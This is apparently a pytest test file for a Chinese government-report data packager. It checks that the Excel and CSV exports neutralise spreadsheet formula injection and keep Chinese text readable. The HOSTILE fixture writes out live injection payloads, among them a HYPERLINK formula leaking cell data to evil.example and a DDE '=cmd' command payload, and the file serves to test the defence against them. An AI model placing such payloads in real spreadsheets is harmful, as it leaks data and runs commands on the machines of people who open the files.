"""The Excel copies keep Chinese intact and hold no cell that can run as a formula."""

from __future__ import annotations

import csv
import dataclasses
import io
import shutil
import subprocess
from pathlib import Path

import openpyxl
import pytest
from sample_records import CREATED, META, REJECTED, TITLE, two_reports

from govpub.package import Package, build_package
from govpub.package.excel import FORMULA_TRIGGERS, neutralise
from govpub.records import Records

HOSTILE = {
    "title": '=HYPERLINK("http://evil.example/?leak="&A1,"点击")',
    "issuer": "+1",
    "inspection_body": "-2",
    "inspected_body": "@x",
    "inspection_round": "\t=cmd|' /C calc'!A0",
}


@pytest.fixture
def hostile(tmp_path: Path) -> Package:
    records = two_reports()
    bad = dataclasses.replace(records.reports[0], **HOSTILE)  # type: ignore[arg-type]
    records = dataclasses.replace(records, reports=(bad, *records.reports[1:]))
    return build_package(records, META, tmp_path / "pkg", created=CREATED, rejected=REJECTED)


def _workbook(pkg: Package) -> openpyxl.Workbook:
    return openpyxl.load_workbook(pkg.root / f"excel/{META.name}.xlsx")


@pytest.mark.parametrize("text", ["=1+1", "+1", "-2", "@x", "\t=1", "\r=1"])
def test_neutralise_prefixes_every_trigger(text: str) -> None:
    assert neutralise(text) == "'" + text
    assert not neutralise(text).startswith(FORMULA_TRIGGERS)


@pytest.mark.parametrize("text", ["巡察整改", "2024年4月8日", "", "a=b", "100%"])
def test_neutralise_leaves_ordinary_text(text: str) -> None:
    assert neutralise(text) == text


def test_workbook_has_a_sheet_per_table_with_frozen_header_and_chinese(hostile: Package) -> None:
    wb = _workbook(hostile)
    assert wb.sheetnames == ["reports", "sections", "measures", "dates", "contacts", "figures", "rejected"]
    sheet = wb["sections"]
    assert sheet.freeze_panes == "A2"
    assert sheet.cell(1, 1).value == "章节编号 section_id"
    headings = [sheet.cell(r, 8).value for r in range(2, sheet.max_row + 1)]
    assert "党工委履行巡察整改主体责任情况" in headings
    assert sheet.column_dimensions["I"].width >= 20  # body: a wide column for long Chinese text
    assert wb["reports"].cell(2, 2).value in (TITLE, "'" + HOSTILE["title"], None)


def test_no_cell_is_a_formula_and_hostile_text_is_kept_readable(hostile: Package) -> None:
    wb = _workbook(hostile)
    values = []
    for sheet in wb.worksheets:
        for row in sheet.iter_rows():
            for cell in row:
                assert cell.data_type != "f", f"{sheet.title}!{cell.coordinate} is a formula"
                if isinstance(cell.value, str):
                    assert not cell.value.startswith(FORMULA_TRIGGERS), f"{sheet.title}!{cell.coordinate}"
                values.append(cell.value)
    for text in HOSTILE.values():
        assert "'" + text in values


def test_numbers_stay_numbers_in_the_workbook(hostile: Package) -> None:
    sheet = _workbook(hostile)["figures"]
    assert [sheet.cell(r, 4).value for r in range(2, 5)] == [24, 34, 100]


def test_canonical_files_stay_lossless(hostile: Package) -> None:
    rows = list(csv.reader(io.StringIO((hostile.root / "data/reports.csv").read_text(encoding="utf-8"), newline="")))
    assert HOSTILE["title"] in [r[1] for r in rows]


def test_excel_csv_has_a_bom_and_neutralised_cells(hostile: Package) -> None:
    raw = (hostile.root / "excel/reports.csv").read_bytes()
    assert raw.startswith(b"\xef\xbb\xbf")
    rows = list(csv.reader(io.StringIO(raw.decode("utf-8-sig"), newline="")))
    assert rows[0][0] == "报告编号 report_id"
    cells = [c for r in rows[1:] for c in r]
    assert "'" + HOSTILE["title"] in cells and "'+1" in cells and "'-2" in cells and "'@x" in cells
    assert not any(c.startswith(FORMULA_TRIGGERS) for c in cells)


def test_workbook_bytes_depend_only_on_the_rows(tmp_path: Path) -> None:
    a = build_package(two_reports(), META, tmp_path / "a", created=CREATED)
    b = build_package(two_reports(), META, tmp_path / "b", created="2031-05-05T00:00:00Z")
    xlsx = f"excel/{META.name}.xlsx"
    assert (a.root / xlsx).read_bytes() == (b.root / xlsx).read_bytes()


def test_an_empty_table_still_gets_a_sheet(tmp_path: Path) -> None:
    pkg = build_package(Records(), META, tmp_path / "p", created=CREATED)
    wb = openpyxl.load_workbook(pkg.root / f"excel/{META.name}.xlsx")
    assert wb["reports"].max_row == 1


@pytest.mark.integration
def test_libreoffice_reads_no_formula(hostile: Package, tmp_path: Path) -> None:
    soffice = shutil.which("soffice") or shutil.which("libreoffice")
    if soffice is None:
        pytest.skip("LibreOffice (soffice) is not installed")
    out = tmp_path / "lo"
    subprocess.run([soffice, "--headless", f"-env:UserInstallation=file://{tmp_path}/profile", "--convert-to",
                    "csv:Text - txt - csv (StarCalc):44,34,76,1", "--outdir", str(out),
                    str(hostile.root / f"excel/{META.name}.xlsx")], check=True, capture_output=True, timeout=180)
    text = next(out.glob("*.csv")).read_text(encoding="utf-8")
    assert "巡察整改" in text or "市委第六巡察组" in text
    assert "'+1" in text and "'-2" in text and "HYPERLINK" in text


def test_a_package_too_big_for_a_workbook_keeps_the_excel_csvs(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    import govpub.package.build as build_module

    monkeypatch.setattr(build_module, "WORKBOOK_MAX_CELLS", 100)
    pkg = build_package(two_reports(), META, tmp_path / "p", created=CREATED)
    paths = {f.path for f in pkg.files}
    assert f"excel/{META.name}.xlsx" not in paths and "excel/measures.csv" in paths
    assert not (pkg.root / f"excel/{META.name}.xlsx").exists()


def test_a_table_longer_than_a_worksheet_has_no_excel_copy(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    """Excel would open it cut short; the canonical CSV and Parquet stay, and the README says why."""
    import govpub.package.excel as excel_module
    from govpub.validate import validate_package

    records = two_reports()
    monkeypatch.setattr(excel_module, "SHEET_MAX_DATA_ROWS", len(records.measures) - 1)
    pkg = build_package(records, META, tmp_path / "p", created=CREATED)
    paths = {f.path for f in pkg.files}
    assert "excel/measures.csv" not in paths and "data/measures.csv" in paths and "excel/reports.csv" in paths
    assert not (pkg.root / "excel/measures.csv").exists()
    assert "1,048,576" in (pkg.root / "README.md").read_text(encoding="utf-8")
    assert validate_package(pkg).valid


def test_non_finite_numbers_use_table_schema_forms(tmp_path: Path) -> None:
    records = two_reports()
    fig = dataclasses.replace(records.figures[0], value=float("nan"))
    pkg = build_package(dataclasses.replace(records, figures=(fig, *records.figures[1:])), META, tmp_path / "p",
                        created=CREATED)
    assert "NaN" in [r[3] for r in csv.reader(io.StringIO((pkg.root / "data/figures.csv").read_text(encoding="utf-8")))]
    from govpub.validate import validate_package

    assert validate_package(pkg).valid
